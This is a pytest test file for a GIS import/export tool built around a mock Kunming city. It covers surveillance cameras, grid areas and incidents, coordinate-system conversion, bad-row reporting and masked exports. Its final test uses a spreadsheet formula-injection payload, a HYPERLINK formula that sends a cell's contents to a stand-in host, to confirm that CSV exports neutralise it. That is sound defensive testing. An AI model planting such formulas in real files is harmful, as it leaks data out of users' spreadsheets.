"""Import/export of GIS files: formats, CRSs, bad rows, exit codes, the real Kunming file.

Every test builds its own small city (boxes in WGS-84 near Kunming) as files in tmp_path and
imports them into a real SQLite database; nothing depends on the seed module.
"""

from __future__ import annotations

import csv
import datetime as dt
import json

import geopandas as gpd
import numpy as np
import pandas as pd
import pyproj
import pytest
import shapely
from shapely.geometry import LineString, Point, Polygon, box

from geo.crs import from_wgs84, local_metric_crs, transform_geometries
from layers.__main__ import main
from layers.db import Database
from layers.io import (
    LAYERS,
    UsageError,
    check_polygon,
    export_layer,
    import_layer,
    metric_transformer,
    parse_crs,
)
from layers.models import Incident
from layers.services import areas, cameras, centers, grids
from layers.services.scope import Scope
from tests.dbs import db_url

# --- a small city: 2 districts, 3 streets, 4 communities, 8 grids (WGS-84 boxes) ---------
DISTRICTS = [
    ("530102", "五华区", box(102.60, 24.95, 102.70, 25.05)),
    ("530103", "盘龙区", box(102.70, 24.95, 102.80, 25.05)),
]
STREETS = [
    ("530102001", "华山街道", box(102.60, 24.95, 102.65, 25.05)),
    ("530102002", "护国街道", box(102.65, 24.95, 102.70, 25.05)),
    ("530103001", "拓东街道", box(102.70, 24.95, 102.80, 25.05)),
]
COMMUNITIES = [
    ("530102001001", "翠湖社区", box(102.60, 24.95, 102.65, 25.00)),
    ("530102001002", "文林社区", box(102.60, 25.00, 102.65, 25.05)),
    ("530102002001", "正义社区", box(102.65, 24.95, 102.70, 25.05)),
    ("530103001001", "金碧社区", box(102.70, 24.95, 102.80, 25.05)),
]


def _grid_rows():
    rows = []
    for code, name, geom in COMMUNITIES:
        minx, miny, maxx, maxy = geom.bounds
        mid = (minx + maxx) / 2
        rows.append((code + "01", f"{name}第一网格", box(minx, miny, mid, maxy)))
        rows.append((code + "02", f"{name}第二网格", box(mid, miny, maxx, maxy)))
    return rows


GRIDS = _grid_rows()
CAMERAS = [
    ("53010200001320000001", "翠湖北门", 1, 102.62, 24.97, "rtsp://admin:secret@10.0.0.5/ch1"),
    ("53010200001310000002", "文林街口", 2, 102.63, 25.02, ""),
    ("53010300001320000003", "金碧路", 3, 102.75, 25.00, ""),
]
CENTERS = [
    ("五华区综治中心", "county", 102.66, 25.01),
    ("华山街道综治中心", "township", 102.62, 25.03),
]


def _gdf(rows, columns, crs="EPSG:4326"):
    records = [dict(zip(columns, r[:-1], strict=True)) for r in rows]
    return gpd.GeoDataFrame(records, geometry=[r[-1] for r in rows], crs=crs)


def polygon_gdf(rows, crs="EPSG:4326"):
    """Return code/name polygon rows as a GeoDataFrame."""
    return _gdf(rows, ["code", "name"], crs)


def camera_gdf():
    """Return the test cameras as a point GeoDataFrame (WGS-84)."""
    rows = [(g, n, c, u, Point(x, y)) for g, n, c, x, y, u in CAMERAS]
    return _gdf(rows, ["gb_id", "name", "class", "stream_url"])


def center_gdf():
    """Return the test centers as a point GeoDataFrame (WGS-84)."""
    return _gdf([(n, lv, Point(x, y)) for n, lv, x, y in CENTERS], ["name", "level"])


def write(gdf, path):
    """Write a GeoDataFrame with pyogrio (or CSV with lon/lat/WKT); return the path."""
    if path.suffix == ".csv":
        frame = pd.DataFrame(gdf.drop(columns="geometry"))
        if all(g.geom_type == "Point" for g in gdf.geometry):
            frame["lon"] = gdf.geometry.x
            frame["lat"] = gdf.geometry.y
        else:
            frame["wkt"] = gdf.geometry.to_wkt(rounding_precision=-1)
        frame.to_csv(path, index=False)
    else:
        gdf.to_file(path, engine="pyogrio")
    return path


def new_db(tmp_path, name="t.sqlite", db_backend="sqlite"):
    db = Database(db_url(tmp_path / name, db_backend))
    db.migrate()
    return db


def import_city(db, tmp_path, *, with_grids=True):
    """Import the small city through GeoJSON files; return the reports by layer."""
    reports = {}
    layers = [("districts", DISTRICTS), ("streets", STREETS), ("communities", COMMUNITIES)]
    if with_grids:
        layers.append(("grids", GRIDS))
    for layer, rows in layers:
        path = write(polygon_gdf(rows), tmp_path / f"city_{layer}.geojson")
        reports[layer] = import_layer(db, layer, path, progress=False)
        assert reports[layer].rejected == [], reports[layer].format()
    return reports


@pytest.fixture
def city_db(db_backend, tmp_path):
    db = new_db(tmp_path, "city.sqlite", db_backend=db_backend)
    import_city(db, tmp_path)
    return db


# --- the city import itself -------------------------------------------------------------
def test_city_import_links_parents_and_creates_city(city_db):
    gdf = areas.read_gdf(city_db, scope=Scope.ALL)
    assert gdf["level"].value_counts().to_dict() == {
        "city": 1, "district": 2, "street": 3, "community": 4,
    }  # fmt: skip
    city = gdf[gdf.level == "city"].iloc[0]
    assert (city.code, city["name"]) == ("530100", "昆明市")
    assert city.geometry.equals(shapely.union_all([g for _, _, g in DISTRICTS]))
    parents = dict(zip(gdf.code, gdf.parent_code, strict=True))
    assert parents["530102"] == "530100"
    assert parents["530102001"] == "530102"
    assert parents["530103001001"] == "530103001"
    g = grids.read_gdf(city_db, scope=Scope.ALL)
    assert len(g) == 8
    assert set(g.community_code) == {c for c, _, _ in COMMUNITIES}
    # area computed in a metric CRS: a 0.025 x 0.05 degree box near 25 N is ~12.6 km2
    assert g.area_m2.iloc[0] == pytest.approx(
        0.025 * 0.05 * 111_195**2 * np.cos(np.radians(24.975)), rel=0.01
    )


# --- every format round-trips through export ---------------------------------------------
@pytest.mark.parametrize("ext", [".geojson", ".gpkg", ".shp", ".zip", ".csv"])
def test_every_layer_roundtrips_through_each_format(db_backend, tmp_path, city_db, ext):
    for path, layer in [(write(camera_gdf(), tmp_path / "cams.geojson"), "cameras"),
                        (write(center_gdf(), tmp_path / "centers.geojson"), "centers")]:  # fmt: skip
        assert import_layer(city_db, layer, path, progress=False).exit_code == 0
    target = new_db(tmp_path, f"copy{ext[1:]}.sqlite", db_backend=db_backend)
    order = ["districts", "streets", "communities", "grids", "centers", "cameras"]
    for layer in order:
        out = tmp_path / f"export_{layer}{ext}"
        n = export_layer(city_db, layer, out)
        assert n > 0 and out.exists()
        report = import_layer(target, layer, out, progress=False)
        assert report.exit_code == 0, report.format()
        assert report.imported == n
    for reader, key in [
        (lambda d: areas.read_gdf(d, scope=Scope.ALL), "code"),
        (lambda d: grids.read_gdf(d, scope=Scope.ALL), "code"),
    ]:
        a = reader(city_db).set_index(key).sort_index()
        b = reader(target).set_index(key).sort_index()
        assert list(a.index) == list(b.index)
        assert list(a["name"]) == list(b["name"])
        for ga, gb in zip(a.geometry, b.geometry, strict=True):
            assert shapely.normalize(ga).equals_exact(shapely.normalize(gb), 1e-9)
    ca = cameras.read_gdf(city_db, scope=Scope.ALL).set_index("gb_id")
    cb = cameras.read_gdf(target, scope=Scope.ALL).set_index("gb_id")
    assert list(ca.index) == list(cb.index)
    cols = ["name", "cls", "azimuth", "fov", "range_m", "grid_code", "lon", "lat"]
    pd.testing.assert_frame_equal(ca[cols], cb[cols], check_dtype=False)
    # exports never carry stream credentials
    assert "secret" not in "".join(cb.stream_url)
    got = centers.read_gdf(target, scope=Scope.ALL).set_index("name").area_code.to_dict()
    assert got == {"五华区综治中心": "530102", "华山街道综治中心": "530102001"}


def test_gbk_shapefile_without_cpg_keeps_chinese_names(db_backend, tmp_path):
    db = new_db(tmp_path, "t.sqlite", db_backend=db_backend)
    path = tmp_path / "gbk.shp"
    polygon_gdf(DISTRICTS).to_file(path, engine="pyogrio", encoding="GBK")
    path.with_suffix(".cpg").unlink(missing_ok=True)
    assert import_layer(db, "districts", path, progress=False).exit_code == 0
    assert list(areas.read_gdf(db, level="district", scope=Scope.ALL).name) == ["五华区", "盘龙区"]


@pytest.mark.parametrize("ext", [".geojson", ".gpkg", ".shp", ".zip", ".csv"])
def test_empty_layer_exports_and_imports(db_backend, tmp_path, ext):
    db = new_db(tmp_path, "t.sqlite", db_backend=db_backend)
    out = tmp_path / f"none{ext}"
    assert export_layer(db, "cameras", out) == 0 and out.exists()
    report = import_layer(
        new_db(tmp_path, "b.sqlite", db_backend=db_backend), "cameras", out, progress=False
    )
    assert (report.total, report.exit_code) == (0, 0)


def test_csv_export_has_lon_lat_and_wkt(tmp_path, city_db):
    out = tmp_path / "grids.csv"
    export_layer(city_db, "grids", out)
    with open(out, encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 8
    assert {"lon", "lat", "wkt", "code", "name"} <= set(rows[0])
    poly = shapely.from_wkt(rows[0]["wkt"])
    assert poly.contains(Point(float(rows[0]["lon"]), float(rows[0]["lat"])))


# --- each CRS -----------------------------------------------------------------------------
def _grids_in(crs):
    gdf = polygon_gdf(GRIDS)
    geoms = transform_geometries(np.asarray(gdf.geometry.values), "wgs84", crs)
    tag = crs if crs.startswith("EPSG") else ("EPSG:4326" if crs == "wgs84" else None)
    return gpd.GeoDataFrame(gdf.drop(columns="geometry"), geometry=list(geoms), crs=tag)


@pytest.mark.filterwarnings("ignore:'crs' was not provided")
@pytest.mark.parametrize(
    ("crs", "ext", "use_option"),
    [
        ("wgs84", ".geojson", False),
        ("gcj02", ".geojson", True),
        ("bd09", ".csv", True),
        ("EPSG:4490", ".gpkg", False),  # CGCS2000, tagged in the file
        ("EPSG:32648", ".gpkg", False),  # UTM 48N metres, tagged in the file
        ("EPSG:32648", ".shp", True),  # --crs given (and equal to the file's)
    ],
)
def test_grids_in_each_crs_are_stored_in_wgs84(db_backend, tmp_path, crs, ext, use_option):
    db = new_db(tmp_path, "t.sqlite", db_backend=db_backend)
    import_city(db, tmp_path, with_grids=False)
    path = write(_grids_in(crs), tmp_path / f"grids{ext}")
    report = import_layer(db, "grids", path, crs=crs if use_option else None, progress=False)
    assert report.exit_code == 0, report.format()
    stored = grids.read_gdf(db, scope=Scope.ALL).set_index("code")
    for code, _, geom in GRIDS:
        got = stored.geometry[code]
        # within ~1 cm of the WGS-84 original
        assert shapely.hausdorff_distance(got, geom) < 1e-7, (crs, code)


@pytest.mark.parametrize("crs", ["gcj02", "bd09", "EPSG:4490"])
def test_camera_points_in_each_crs(tmp_path, city_db, crs):
    gdf = camera_gdf()
    x, y = from_wgs84(gdf.geometry.x, gdf.geometry.y, crs)
    frame = pd.DataFrame(gdf.drop(columns="geometry"))
    frame["经度"], frame["纬度"] = x, y
    path = tmp_path / "cams.csv"
    frame.to_csv(path, index=False)
    report = import_layer(city_db, "cameras", path, crs=crs, progress=False)
    assert report.exit_code == 0, report.format()
    stored = cameras.read_gdf(city_db, scope=Scope.ALL).set_index("gb_id")
    for gb_id, _, _, lon, lat, _ in CAMERAS:
        assert stored.lon[gb_id] == pytest.approx(lon, abs=1e-8)
        assert stored.lat[gb_id] == pytest.approx(lat, abs=1e-8)
    if crs != "EPSG:4490":  # the offset systems really move the points (hundreds of metres)
        assert abs(x[0] - CAMERAS[0][3]) > 1e-3


def test_export_in_gcj02_round_trips(db_backend, tmp_path, city_db):
    out = tmp_path / "grids_gcj.geojson"
    export_layer(city_db, "grids", out, crs="gcj02")
    db2 = new_db(tmp_path, "b.sqlite", db_backend=db_backend)
    import_city(db2, tmp_path, with_grids=False)
    assert import_layer(db2, "grids", out, crs="gcj02", progress=False).exit_code == 0
    a = grids.read_gdf(city_db, scope=Scope.ALL).set_index("code")
    b = grids.read_gdf(db2, scope=Scope.ALL).set_index("code")
    assert max(shapely.hausdorff_distance(a.geometry[c], b.geometry[c]) for c in a.index) < 1e-8


def test_parse_crs_accepts_the_documented_values():
    assert parse_crs("WGS-84") == "wgs84"
    assert parse_crs("gcj02") == "gcj02"
    assert parse_crs("BD09") == "bd09"
    assert parse_crs("EPSG:32648") == pyproj.CRS.from_epsg(32648)
    for bad in ("mars", "EPSG:999999", "epsg:abc"):
        with pytest.raises(UsageError, match="--crs"):
            parse_crs(bad)


# --- bad input ----------------------------------------------------------------------------
BOWTIE = Polygon([(102.601, 24.951), (102.609, 24.959), (102.609, 24.951), (102.601, 24.959)])
HOLE_OUTSIDE = Polygon(
    [(102.66, 24.96), (102.67, 24.96), (102.67, 24.97), (102.66, 24.97)],
    [[(102.68, 24.98), (102.69, 24.98), (102.69, 24.99), (102.68, 24.99)]],
)


def test_polygon_repair_rules():
    tr = metric_transformer(local_metric_crs([102.6], [24.95]))
    fixed, area, note = check_polygon(BOWTIE, tr)
    assert fixed.is_valid and fixed.geom_type == "MultiPolygon"
    assert "repaired" in note and "Self-intersection" in note
    assert area == pytest.approx(
        2 * 0.25 * 0.008**2 * 111_195**2 * np.cos(np.radians(24.955)), rel=0.01
    )
    with pytest.raises(ValueError, match="area"):
        check_polygon(HOLE_OUTSIDE, tr)
    flat = Polygon([(102.6, 24.95), (102.61, 24.95), (102.62, 24.95), (102.6, 24.95)])
    with pytest.raises(ValueError, match="no polygon"):
        check_polygon(flat, tr)
    valid, _, no_note = check_polygon(box(102.6, 24.95, 102.61, 24.96), tr)
    assert no_note is None and valid.is_valid


def test_bad_grid_rows_are_reported_and_the_rest_imported(db_backend, tmp_path, capsys):
    db = new_db(tmp_path, "t.sqlite", db_backend=db_backend)
    import_city(db, tmp_path, with_grids=False)
    import_layer(
        db, "grids", write(polygon_gdf(GRIDS[:1]), tmp_path / "g0.geojson"), progress=False
    )
    rows = [
        ("53010200100102", "好网格", GRIDS[1][2]),  # 1 ok
        ("53010200100103", "蝴蝶网格", BOWTIE),  # 2 repaired
        ("53010200200103", "破网格", HOLE_OUTSIDE),  # 3 rejected: repair changes area
        ("53010200100102", "重复网格", box(102.62, 24.96, 102.63, 24.97)),  # 4 dup in file
        (GRIDS[0][0], "已存网格", box(102.62, 24.96, 102.63, 24.97)),  # 5 dup in DB
        ("5301020010010", "短码", box(102.62, 24.96, 102.63, 24.97)),  # 6 13 digits
        ("53010200100104", "", box(102.62, 24.96, 102.63, 24.97)),  # 7 missing name
        ("53010200100105", "线", LineString([(102.61, 24.96), (102.62, 24.97)])),  # 8 type
        ("53010200100106", "城外", box(103.5, 26.0, 103.6, 26.1)),  # 9 outside the city
        ("53010200100107", "倒置", box(24.96, 102.61, 24.97, 102.62)),  # 10 swapped
    ]
    path = write(polygon_gdf(rows), tmp_path / "bad.geojson")
    report_csv = tmp_path / "report.csv"
    code = main(["import", "grids", str(path), "--db", db.url, "--report", str(report_csv)])
    assert code == 1
    out = capsys.readouterr().out
    assert "imported 2 of 10 rows" in out
    with open(report_csv, encoding="utf-8-sig") as fh:
        issues = {int(r["row"]): r for r in csv.DictReader(fh)}
    assert issues[2]["status"] == "repaired"
    rejected = {n: r["reason"] for n, r in issues.items() if r["status"] == "rejected"}
    assert set(rejected) == {3, 4, 5, 6, 7, 8, 9, 10}
    assert "area" in rejected[3]
    assert "also on row 1" in rejected[4]
    assert "already stored" in rejected[5]
    assert "13 digits" in rejected[6]
    assert rejected[7].startswith("name: missing")
    assert "LineString" in rejected[8]
    assert "outside the city" in rejected[9]
    assert "lon/lat look swapped" in rejected[10]
    assert issues[6]["code"] == "5301020010010" and issues[6]["name"] == "短码"
    assert "row 6 (5301020010010, 短码): rejected" in out
    stored = grids.read_gdf(db, scope=Scope.ALL).set_index("code")
    assert sorted(stored.index) == [GRIDS[0][0], "53010200100102", "53010200100103"]
    assert stored.geometry["53010200100103"].is_valid


def test_bad_camera_rows(tmp_path, city_db):
    frame = pd.DataFrame(
        [
            ["53010200001320000011", "好", "一类", "102.62", "24.99"],  # 1 ok (Chinese class)
            ["53010200001320000012", "倒置", "1", "24.99", "102.62"],  # 2 swapped (lat > 90)
            ["53010200001320000013", "城外", "2", "103.30", "25.50"],  # 3 outside the city
            ["53010200001110000014", "录像机", "1", "102.62", "24.98"],  # 4 DVR, not a camera
            ["53010200001320000011", "重复", "1", "102.62", "24.98"],  # 5 duplicate
            ["53010200001320000015", "无类", "", "102.62", "24.98"],  # 6 missing class
            ["53010200001320000016", "坏数", "1", "东经102", "24.98"],  # 7 not a number
            ["44030000001320000017", "深圳", "1", "102.62", "24.98"],  # 8 other region
        ],
        columns=["DeviceID", "名称", "类别", "Lng", "LAT"],
    )
    path = tmp_path / "cams.csv"
    frame.to_csv(path, index=False)
    report = import_layer(city_db, "cameras", path, progress=False)
    assert report.imported == 1 and report.exit_code == 1
    reasons = {i.row: i.reason for i in report.rejected}
    assert set(reasons) == {2, 3, 4, 5, 6, 7, 8}
    assert "lon/lat look swapped" in reasons[2]
    assert "outside the city" in reasons[3]
    assert "131 or 132" in reasons[4]
    assert "duplicate gb_id" in reasons[5]
    assert reasons[6].startswith("cls: missing")
    assert "not numbers" in reasons[7]
    assert "outside this deployment" in reasons[8]
    cam = cameras.get_camera(city_db, "53010200001320000011")
    assert cam.cls == 1 and cam.grid_id == grids.get_grid(city_db, "53010200100101").id


def test_swapped_point_detected_by_the_city_test_in_a_projected_free_crs(tmp_path, city_db):
    # both orders are "in range"; only the swapped one lies in China / the city
    frame = pd.DataFrame({"gb_id": ["53010200001320000021"], "name": ["x"], "class": [1],
                          "lon": [25.0], "lat": [102.75]})  # fmt: skip
    frame.to_csv(tmp_path / "c.csv", index=False)
    report = import_layer(city_db, "cameras", tmp_path / "c.csv", progress=False)
    assert "lon/lat look swapped" in report.rejected[0].reason


def test_reimport_with_a_bad_row_keeps_everything_stored(tmp_path, city_db):
    first = write(camera_gdf(), tmp_path / "cams1.geojson")
    assert import_layer(city_db, "cameras", first, progress=False).exit_code == 0
    before = cameras.read_gdf(city_db, scope=Scope.ALL).drop(columns=["id"]).set_index("gb_id")
    more = gpd.GeoDataFrame(
        {"gb_id": ["53010300001320000031", "53010300001320000032", CAMERAS[0][0]],
         "name": ["新1", "新2", "改名"], "class": [1, 2, 3]},
        geometry=[Point(102.71, 25.0), Point(102.72, 24.0), Point(102.61, 24.99)],
        crs="EPSG:4326",
    )  # fmt: skip
    code = main(["import", "cameras", str(write(more, tmp_path / "cams2.geojson")),
                 "--db", city_db.url])  # fmt: skip
    assert code == 1
    after = cameras.read_gdf(city_db, scope=Scope.ALL).drop(columns=["id"]).set_index("gb_id")
    assert len(after) == 4
    pd.testing.assert_frame_equal(after.loc[before.index], before)
    assert after.name[CAMERAS[0][0]] == CAMERAS[0][1]  # the duplicate did not overwrite it


def test_multi_layer_geopackage_and_wrong_geometry_type(tmp_path, city_db):
    path = tmp_path / "both.gpkg"
    polygon_gdf(DISTRICTS).to_file(path, layer="outlines", engine="pyogrio")
    cams = camera_gdf()
    cams.loc[1, "geometry"] = box(102.62, 24.97, 102.63, 24.98)  # a polygon is no camera
    cams.to_file(path, layer="cams", engine="pyogrio")
    report = import_layer(city_db, "cameras", path, source_layer="cams", progress=False)
    assert report.imported == 2
    assert [(i.row, i.code) for i in report.rejected] == [(2, CAMERAS[1][0])]
    assert "Polygon; this layer needs a Point" in report.rejected[0].reason
    with pytest.raises(UsageError, match="'gb_id' column"):  # the first layer holds outlines
        import_layer(city_db, "cameras", path, progress=False)


def test_database_failure_mid_import_keeps_prior_and_other_rows(tmp_path, city_db):
    from sqlalchemy import text

    first = write(camera_gdf().iloc[:1], tmp_path / "one.geojson")
    assert import_layer(city_db, "cameras", first, progress=False).exit_code == 0
    with city_db.session() as s:  # a real database refusal (constraint error) for one row
        if city_db.dialect == "postgresql":
            s.execute(text("CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$ "
                           "BEGIN IF NEW.name = 'boom' THEN RAISE EXCEPTION 'refused by trigger'; "
                           "END IF; RETURN NEW; END $$"))  # fmt: skip
            s.execute(text("CREATE TRIGGER refuse BEFORE INSERT ON cameras FOR EACH ROW "
                           "EXECUTE FUNCTION refuse()"))  # fmt: skip
        else:
            s.execute(text("CREATE TRIGGER refuse BEFORE INSERT ON cameras WHEN NEW.name = "
                           "'boom' BEGIN SELECT RAISE(ABORT, 'refused by trigger'); END"))  # fmt: skip
    rest = camera_gdf().iloc[1:].copy()
    rest.loc[1, "name"] = "boom"
    report = import_layer(city_db, "cameras", write(rest, tmp_path / "rest.geojson"),
                          progress=False)  # fmt: skip
    assert report.imported == 1 and report.exit_code == 1
    assert "database refused it" in report.rejected[0].reason
    assert sorted(cameras.read_gdf(city_db, scope=Scope.ALL).gb_id) == [
        CAMERAS[0][0],
        CAMERAS[2][0],
    ]


def test_parent_found_by_location_when_code_prefix_is_unknown(tmp_path, city_db):
    rows = [("53010200100999", "编外网格", box(102.601, 24.951, 102.602, 24.952))]
    report = import_layer(city_db, "grids", write(polygon_gdf(rows), tmp_path / "g.gpkg"),
                          progress=False)  # fmt: skip
    assert report.exit_code == 0
    assert "linked by location" in report.issues[0].reason
    assert grids.grid_card(city_db, "53010200100999")["community"]["code"] == "530102001001"


def test_district_codes_checked_against_editions(db_backend, tmp_path):
    db = new_db(tmp_path, "t.sqlite", db_backend=db_backend)
    rows = [
        ("530122", "晋宁县", box(102.5, 24.6, 102.7, 24.8)),  # 2016 edition only
        ("530115", "晋宁区", box(102.5, 24.8, 102.7, 24.9)),  # 2023 edition only
        ("530199", "乌有区", box(102.8, 24.6, 102.9, 24.8)),  # in no edition
        ("530100", "昆明市", box(102.8, 24.8, 102.9, 24.9)),  # a city code
    ]
    report = import_layer(db, "districts", write(polygon_gdf(rows), tmp_path / "d.geojson"),
                          progress=False)  # fmt: skip
    assert report.imported == 2
    reasons = {i.row: (i.status, i.reason) for i in report.issues}
    assert reasons[1][0] == "note" and "edition 2016 only" in reasons[1][1]
    assert reasons[3][0] == "rejected" and "no GB/T 2260 edition" in reasons[3][1]
    assert reasons[4][0] == "rejected" and "ends in 00" in reasons[4][1]
    assert any("2016: 1" in n and "2023: 1" in n for n in report.notes)


def test_centers_link_to_area_by_location_with_chinese_levels(tmp_path, city_db):
    frame = pd.DataFrame({"中心名称": ["正义社区综治中心", "拓东街道综治中心"],
                          "级别": ["社区", "街道"], "联系电话": ["0871-1234567", ""],
                          "x": [102.68, 102.75], "y": [25.0, 25.0]})  # fmt: skip
    frame.to_csv(tmp_path / "c.csv", index=False, encoding="gbk")  # Excel on a Chinese PC
    assert import_layer(city_db, "centers", tmp_path / "c.csv", progress=False).exit_code == 0
    got = centers.read_gdf(city_db, scope=Scope.ALL).set_index("name")
    assert got.level["正义社区综治中心"] == "village"
    assert got.area_code["正义社区综治中心"] == "530102002001"
    assert got.area_code["拓东街道综治中心"] == "530103001"
    assert got.phone["正义社区综治中心"] == "0871-1234567"


def test_incidents_import_goes_through_create_incident(db_backend, tmp_path, city_db):
    frame = pd.DataFrame({
        "lon": [102.62, 102.75, 102.62], "lat": [24.97, 25.0, 24.97],
        "category": ["DISPUTE.NEIGHBOR", "NOPE", "DISPUTE.NEIGHBOR"],
        "occurred_at": ["2026-11-23T08:00:00+08:00"] * 3,
        "external_id": ["A1", "A2", "A1"], "reporter_phone": ["13812345678", "", ""],
    })  # fmt: skip
    frame.to_csv(tmp_path / "inc.csv", index=False)
    report = import_layer(city_db, "incidents", tmp_path / "inc.csv", progress=False)
    assert report.imported == 1, report.format()
    reasons = {i.row: i.reason for i in report.rejected}
    assert "category" in reasons[2] and "duplicate" in reasons[3]
    out = tmp_path / "inc.geojson"
    export_layer(city_db, "incidents", out)
    props = json.loads(out.read_text())["features"][0]["properties"]
    assert props["rep_phone"] == "138****5678"  # exports never carry it raw
    assert props["grid_code"] == "53010200100101"
    # the export re-imports (as new intake cases) through every format, masked data dropped
    for ext in (".shp", ".csv", ".gpkg"):
        target = new_db(tmp_path, f"inc{ext[1:]}.sqlite", db_backend=db_backend)
        import_city(target, tmp_path)
        export_layer(city_db, "incidents", tmp_path / f"inc{ext}")
        again = import_layer(target, "incidents", tmp_path / f"inc{ext}", progress=False)
        assert again.imported == 1, again.format()
        assert "masked" in again.issues[0].reason
        with target.session() as s:
            inc = s.query(Incident).one()
            assert (inc.external_id, inc.category_code) == ("A1", "DISPUTE.NEIGHBOR")
            assert inc.created_at == dt.datetime(2026, 11, 23, 0, tzinfo=dt.UTC)
            assert inc.reporter_phone == ""


# --- usage errors: exit 2 with a message naming what to fix ------------------------------
def test_unknown_crs_exits_2_naming_the_option(db_backend, tmp_path, capsys):
    path = write(polygon_gdf(DISTRICTS), tmp_path / "d.geojson")
    code = main(["import", "districts", str(path), "--crs", "mars", "--db",
                 db_url(tmp_path / 'x.sqlite', db_backend)])  # fmt: skip
    assert code == 2
    err = capsys.readouterr().err
    assert "--crs 'mars'" in err and "gcj02" in err and "EPSG:<code>" in err


@pytest.mark.parametrize(
    ("argv_tail", "needle"),
    [
        (["import", "roads", "{f}"], "LAYER 'roads' is unknown"),
        (["import", "districts", "{d}/missing.geojson"], "does not exist"),
        (["import", "districts", "{d}/garbage.geojson"], "cannot read"),
        (["import", "districts", "{d}/file.txt"], "unknown format"),
        (["import", "cameras", "{d}/nocol.csv"], "'gb_id' column"),
        (["import", "cameras", "{d}/nocoords.csv"], "lon/lat columns"),
        (["export", "roads", "{d}/out.geojson"], "LAYER 'roads' is unknown"),
        (["export", "grids", "{d}/out.kml"], "unknown format"),
    ],
)
def test_usage_errors_exit_2(db_backend, tmp_path, capsys, argv_tail, needle):
    f = write(polygon_gdf(DISTRICTS), tmp_path / "d.geojson")
    (tmp_path / "garbage.geojson").write_text("{not json")
    (tmp_path / "file.txt").write_text("x")
    pd.DataFrame({"名称": ["a"], "lon": [102.6], "lat": [25.0]}).to_csv(tmp_path / "nocol.csv")
    pd.DataFrame({"gb_id": ["53010200001320000001"], "name": ["a"], "class": [1]}).to_csv(
        tmp_path / "nocoords.csv"
    )
    argv = [a.format(f=f, d=tmp_path) for a in argv_tail]
    code = main([*argv, "--db", db_url(tmp_path / "x.sqlite", db_backend)])
    assert code == 2
    assert needle in capsys.readouterr().err


def test_registry_covers_every_cli_layer():
    assert list(LAYERS) == [
        "districts", "streets", "communities", "grids", "centers", "cameras", "incidents",
    ]  # fmt: skip
    assert LAYERS["grids"].parent_level == "community"
    assert LAYERS["cameras"].key == "gb_id"


def test_fresh_database_is_migrated_by_the_cli(db_backend, tmp_path):
    path = write(polygon_gdf(DISTRICTS), tmp_path / "d.geojson")
    url = db_url(tmp_path / "fresh" / "new.sqlite", db_backend)
    assert main(["import", "districts", str(path), "--db", url]) == 0
    assert main(["export", "districts", str(tmp_path / "d.gpkg"), "--db", url]) == 0
    assert len(gpd.read_file(tmp_path / "d.gpkg")) == 2


# --- the real Kunming file (GCJ-02) ------------------------------------------------------
@pytest.mark.shared
def test_kunming_gcj02_import_shift_and_round_trip(db_backend, tmp_path, shared_data, capsys):
    src = shared_data / "kunming_districts_gcj02.geojson"
    db = new_db(tmp_path, "t.sqlite", db_backend=db_backend)
    assert main(["import", "districts", str(src), "--crs", "gcj02", "--db", db.url]) == 0
    out = capsys.readouterr().out
    assert "imported 14 of 14 rows" in out and "0 rejected" in out
    assert "row 7 (530122, 晋宁区): note: code 530122 matched GB/T 2260 edition 2016" in out
    original = gpd.read_file(src).set_index("adcode")
    stored = areas.read_gdf(db, level="district", scope=Scope.ALL).set_index("code")
    geod = pyproj.Geod(ellps="WGS84")
    shifts = []
    for code in original.index:
        a = shapely.get_coordinates(original.geometry[code])
        b = shapely.get_coordinates(stored.geometry[code])
        assert a.shape == b.shape
        shifts.append(geod.inv(a[:, 0], a[:, 1], b[:, 0], b[:, 1])[2])
    shift = np.concatenate(shifts)
    # GCJ-02 offsets Kunming by a few hundred metres (measured: mean ~375 m)
    assert 300 < shift.mean() < 700 and shift.min() > 100
    back_path = tmp_path / "kunming_back_gcj02.geojson"
    assert main(["export", "districts", str(back_path), "--crs", "gcj02", "--db", db.url]) == 0
    back = gpd.read_file(back_path).set_index("code")
    errors = [
        geod.inv(*shapely.get_coordinates(original.geometry[c]).T,
                 *shapely.get_coordinates(back.geometry[c]).T)[2]
        for c in original.index
    ]  # fmt: skip
    assert np.concatenate(errors).max() < 1.0
    city = areas.read_gdf(db, level="city", scope=Scope.ALL).iloc[0]
    assert city.code == "530100"


# --- NaN coordinates, formula cells, audited exports ----------------------------------------
def test_nan_coordinates_are_rejected_with_a_reason_not_a_geos_traceback(tmp_path, city_db):
    """A GeoJSON ring with NaN coordinates cannot be built by GEOS: that row is rejected."""
    good = GRIDS[0][2].exterior.coords
    doc = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"code": "53010200100108", "name": "好"},
         "geometry": shapely.geometry.mapping(box(102.62, 24.96, 102.63, 24.97))},
        {"type": "Feature", "properties": {"code": "53010200100109", "name": "坏"},
         "geometry": {"type": "Polygon", "coordinates": [[
             ["NaN", good[0][1]], list(good[1]), list(good[2]), ["NaN", good[0][1]]]]}},
    ]}  # fmt: skip
    path = tmp_path / "nan.geojson"
    path.write_text(json.dumps(doc).replace('"NaN"', "NaN"))
    report = import_layer(city_db, "grids", path, progress=False)
    assert report.imported == 1 and report.exit_code == 1, report.format()
    reasons = {i.row: i.reason for i in report.rejected}
    assert set(reasons) == {2} and "NaN" in reasons[2]
    cams = tmp_path / "nan.csv"
    cams.write_text("gb_id,name,cls,lon,lat\n53010200001320000021,甲,1,NaN,24.97\n"
                    "53010200001320000022,乙,1,102.62,inf\n")  # fmt: skip
    report = import_layer(city_db, "cameras", cams, progress=False)
    assert report.imported == 0 and {i.row for i in report.rejected} == {1, 2}


def test_csv_exports_neutralise_formula_cells_and_are_audited(tmp_path, city_db):
    from layers.models import AuditEntry

    with city_db.session() as s:
        from layers.models import Grid

        g = s.query(Grid).order_by(Grid.id).first()
        g.name = '=HYPERLINK("http://x/?"&A1,"点我")'
    out = tmp_path / "grids.csv"
    export_layer(city_db, "grids", out)
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text
    with open(out, encoding="utf-8-sig") as fh:
        names = [r["name"] for r in csv.DictReader(fh)]
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    with city_db.session() as s:
        entry = s.query(AuditEntry).filter_by(action="layer.export").one()
        assert entry.target == "grids" and entry.actor.startswith("cli:")
